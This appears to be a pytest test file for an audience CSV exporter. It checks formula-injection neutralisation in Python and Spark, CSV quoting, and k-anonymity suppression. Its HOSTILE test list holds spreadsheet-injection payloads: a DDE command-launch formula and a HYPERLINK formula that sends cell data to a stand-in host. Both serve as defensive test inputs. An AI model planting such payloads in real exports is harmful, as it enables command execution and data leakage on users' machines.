"""Audience exports: CSV formula-injection neutralisation (OWASP "CSV Injection") in
Python and Spark alike, the written file byte for byte, k-anonymity and suppression."""

from __future__ import annotations

import csv

import pytest
from pyspark.sql import functions as F

from common import export

# (cell, expected CSV-safe cell)
HOSTILE = [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-A1", "'-A1"),
    ("-3.5e2", "'-3.5e2"),
    ("-3\n=1+1", "'-3\n=1+1"),
    ("+", "'+"),
    # Plain negative numbers stay numbers (documented decision in common/export.py).
    ("-3.5", "-3.5"),
    ("-12", "-12"),
    # Harmless text is untouched, even with a trigger later in the cell.
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("a=1+1", "a=1+1"),
    (" =1+1", " =1+1"),
    ("3.5", "3.5"),
    ("", ""),
    ("'already", "'already"),
    ("ｆｕｌｌ＝width", "ｆｕｌｌ＝width"),
]


@pytest.mark.parametrize("cell,expected", HOSTILE)
def test_neutralise_cell(cell, expected):
    assert export.neutralise_cell(cell) == expected


def test_non_text_values_are_untouched():
    for value in (None, -3.5, -12, 0, True):
        assert export.neutralise_cell(value) is value


def test_spark_column_agrees_with_python(spark):
    df = spark.createDataFrame([(i, c) for i, (c, _) in enumerate(HOSTILE)] + [(len(HOSTILE), None)], "i int, c string")
    got = {r.i: r.safe for r in df.select("i", export.neutralised("c").alias("safe")).collect()}
    assert got == {i: e for i, (_, e) in enumerate(HOSTILE)} | {len(HOSTILE): None}


def test_written_csv_is_neutralised_and_round_trips(spark, tmp_path):
    rows = [(f"k{i}", cell, [cell, "item9"], -1.5 * i) for i, (cell, _) in enumerate(HOSTILE)]
    df = spark.createDataFrame(rows, "user_key string, offer string, items array<string>, score double")
    path = export.write_csv(df, str(tmp_path / "out" / "audience.csv"))
    assert path == str(tmp_path / "out" / "audience.csv")
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["audience.csv"]  # one file, no part folder
    with open(path, encoding="utf-8", newline="") as handle:
        got = list(csv.DictReader(handle))
    assert [r["user_key"] for r in got] == [f"k{i}" for i in range(len(HOSTILE))]
    for i, (cell, expected) in enumerate(HOSTILE):
        assert got[i]["offer"] == expected, cell
        # Arrays become one space-separated cell, itself neutralised.
        assert got[i]["items"] == export.neutralise_cell(f"{cell} item9")
        assert float(got[i]["score"]) == -1.5 * i  # numbers stay numbers, minus sign and all
    # No cell of the file starts with a formula trigger unless it is a plain negative number.
    with open(path, encoding="utf-8", newline="") as handle:
        for record in csv.reader(handle):
            for cell in record:
                assert not cell.startswith(export.FORMULA_TRIGGERS) or export._PLAIN_NEGATIVE.fullmatch(cell), cell


def test_csv_quotes_are_doubled_not_backslashed(spark, tmp_path):
    df = spark.createDataFrame([('say "hi"\\', "x,y")], "a string, b string")
    path = export.write_csv(df, str(tmp_path / "q.csv"))
    text = open(path, encoding="utf-8", newline="").read()
    assert text == '"a","b"\n"say ""hi""\\","x,y"\n'


def test_k_anonymity_and_suppression(spark):
    rows = [("c1", f"u{i}", "active", "vip") for i in range(5)]
    rows += [("c1", "u5", "new", "vip"), ("c1", "u6", "new", "vip")]
    rows += [("c2", f"u{i}", "new", "vip") for i in range(3)]
    df = spark.createDataFrame(rows, "campaign_id string, user_key string, stage string, segment string")
    report = export.k_anonymity(df, ["campaign_id", "stage", "segment"], k=3)
    assert report == {"k": 3, "quasi_identifiers": ["campaign_id", "stage", "segment"], "classes": 3,
                      "smallest_class": 2, "classes_below_k": 1, "rows_below_k": 2}  # fmt: skip
    out = export.suppress_small_classes(df, ["stage", "segment"], k=3, partition=["campaign_id"])
    got = sorted((r.campaign_id, r.user_key, r.stage, r.segment) for r in out.collect())
    assert got == sorted(
        [("c1", f"u{i}", "active", "vip") for i in range(5)]
        + [("c1", "u5", None, None), ("c1", "u6", None, None)]
        + [("c2", f"u{i}", "new", "vip") for i in range(3)]
    )
    empty = export.k_anonymity(df.where(F.lit(False)), ["stage"], k=3)
    assert empty["classes"] == 0 and empty["smallest_class"] is None
